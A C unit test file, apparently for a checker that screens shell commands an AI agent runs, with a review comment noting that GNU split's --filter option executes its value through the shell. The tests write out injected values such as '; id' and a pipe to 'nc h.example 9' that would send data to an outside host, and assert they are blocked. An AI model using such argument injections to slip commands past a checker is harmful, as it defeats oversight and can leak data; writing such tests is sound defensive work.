/* review24 (session 32), round t on main fb8d351: GNU split's --filter
 * runs its value with the shell for each piece (split(1): "write to
 * shell COMMAND"), like tar's --to-command or sort's --compress-program,
 * which the check judges. The value is never read: in an argv
 * ({"split", "--filter=gzip > $FILE.gz; id", FILE}, "--filter" then
 * "x; id", "--filter=cat | nc h.example 9") and in a line (split
 * --filter='gzip > $FILE.gz; id' FILE) -- allowed. Run here: split
 * --filter='id -un > F; cat > /dev/null' /etc/hostname wrote root to F.
 * Twin: a filter without a separator the input adds
 * ("--filter=gzip > $FILE.gz" with the input "gzip") stays allowed.
 */
#include "agent_shell_test.h"

static void a_line_in_splits_filter_is_judged(void **state)
{
	static const char *const a[] = {"split",  "-b", "10M", "--filter=gzip > $FILE.gz; id",
	                                "/srv/x", NULL};
	static const char *const b[] = {"split", "--filter", "x; id", "/srv/x", NULL};
	static const char *const c[] = {"split",  "-n", "2", "--filter=cat | nc h.example 9",
	                                "/srv/x", NULL};
	int bad = 0;

	(void)state;
	if (argv_verdict("gzip > $FILE.gz; id", a) != MOAT_BLOCK) {
		print_message("allowed: split --filter=gzip > $FILE.gz; id\n");
		bad++;
	}
	if (argv_verdict("x; id", b) != MOAT_BLOCK) {
		print_message("allowed: split --filter 'x; id'\n");
		bad++;
	}
	if (argv_verdict("cat | nc h.example 9", c) != MOAT_BLOCK) {
		print_message("allowed: split --filter=cat | nc ...\n");
		bad++;
	}
	if (verdict("split --filter='", "gzip > $FILE.gz; id", "' /srv/x") != MOAT_BLOCK) {
		print_message("allowed: the line split --filter='gzip > $FILE.gz; id' /srv/x\n");
		bad++;
	}
	assert_int_equal(bad, 0);
}

static void a_plain_filter_word_is_allowed(void **state)
{
	static const char *const a[] = {"split",  "-b", "10M", "--filter=gzip > $FILE.gz",
	                                "/srv/x", NULL};

	(void)state;
	assert_int_equal(argv_verdict("gzip", a), MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_line_in_splits_filter_is_judged),
	    cmocka_unit_test(a_plain_filter_word_is_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
